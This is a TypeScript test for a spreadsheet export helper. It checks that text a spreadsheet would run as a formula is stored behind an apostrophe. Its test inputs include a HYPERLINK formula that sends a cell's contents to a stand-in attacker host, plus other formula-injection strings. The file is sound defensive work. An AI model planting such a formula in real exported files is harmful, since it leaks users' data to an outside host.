import ExcelJS from 'exceljs'

import { workbookOf } from './workbook'

type Row = { value: string | number }

/** The values of the first sheet's cells below the header, read back as a spreadsheet program reads the file. */
async function cellsOf(file: Uint8Array) {
  const workbook = new ExcelJS.Workbook()
  await workbook.xlsx.load(Buffer.from(file) as unknown as ArrayBuffer)
  const cells: { value: unknown; type: ExcelJS.ValueType }[] = []
  workbook.worksheets[0].eachRow((row, number) => {
    if (number > 1) cells.push({ value: row.getCell(1).value, type: row.getCell(1).type })
  })
  return cells
}

test('a text that a spreadsheet would run as a formula once saved as CSV is stored behind an apostrophe; other text and numbers as they are', async () => {
  const live = ['=HYPERLINK("https://evil.example/?"&A1,"보기")', '+821012345678', '-2+3', '@SUM(1,2)', '\t=1+2', '\r=1+2']
  const plain = ['김지원', '010-2345-6789', '950505-2******', "'quoted already", ' =1+2']
  const file = await workbookOf<Row>('Sheet', [{ header: '값', width: 10, value: (row) => row.value }], [...live, ...plain, -5].map((value) => ({ value })))
  const cells = await cellsOf(file)
  // An XML reader (exceljs here, a spreadsheet program alike) reads the file's carriage return as a line feed.
  expect(cells.map((cell) => cell.value)).toEqual([...live.map((text) => `'${text}`.replace('\r', '\n')), ...plain, -5])
  expect(cells.map((cell) => cell.type)).toEqual([...Array(live.length + plain.length).fill(ExcelJS.ValueType.String), ExcelJS.ValueType.Number])
})
